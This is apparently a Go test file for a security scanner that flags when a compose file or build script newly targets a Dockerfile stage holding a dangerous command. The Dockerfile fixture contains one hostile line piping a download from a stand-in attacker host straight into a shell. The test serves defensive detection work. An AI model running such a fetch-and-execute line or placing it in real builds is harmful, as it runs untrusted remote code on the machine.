package static_test

import (
	"slices"
	"testing"
	"testing/fstest"

	"github.com/aigate/gate/gate"
)

func TestAStageThatABuildNewlyAsksForCountsAsAdded(t *testing.T) {
	const dockerfile = "FROM debian AS dbg\nRUN curl -s http://evil.example.com/x | sh\nFROM debian AS prod\nRUN ls\nFROM prod AS last\n"
	for _, tt := range []struct {
		name, path, base, head string
		want                   bool
	}{
		{"compose asks for it", "compose.yaml", "services:\n  a:\n    build:\n      target: prod\n", "services:\n  a:\n    build:\n      target: dbg\n", true},
		{"compose asks for another", "compose.yaml", "services:\n  a:\n    build:\n      target: last\n", "services:\n  a:\n    build:\n      target: prod\n", false},
		{"compose asked for it before", "compose.yaml", "services:\n  a:\n    build:\n      target: dbg\n", "services:\n  a:\n    build:\n      target: dbg\n      x: y\n", false},
		{"a script asks for it", "build.sh", "docker build .\n", "docker build --target dbg .\n", true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			base := fstest.MapFS{"Dockerfile": {Data: []byte(dockerfile), Mode: 0o644}, tt.path: {Data: []byte(tt.base), Mode: 0o644}}
			got := scanEdit(t, base, fstest.MapFS{tt.path: {Data: []byte(tt.head), Mode: 0o644}})
			found := slices.ContainsFunc(got.found[tt.path], func(f gate.Finding) bool { return f.Severity == gate.SeverityDangerous && f.InChange })
			if found != tt.want {
				t.Errorf("found %+v, want something dangerous: %t", got.found[tt.path], tt.want)
			}
		})
	}
}
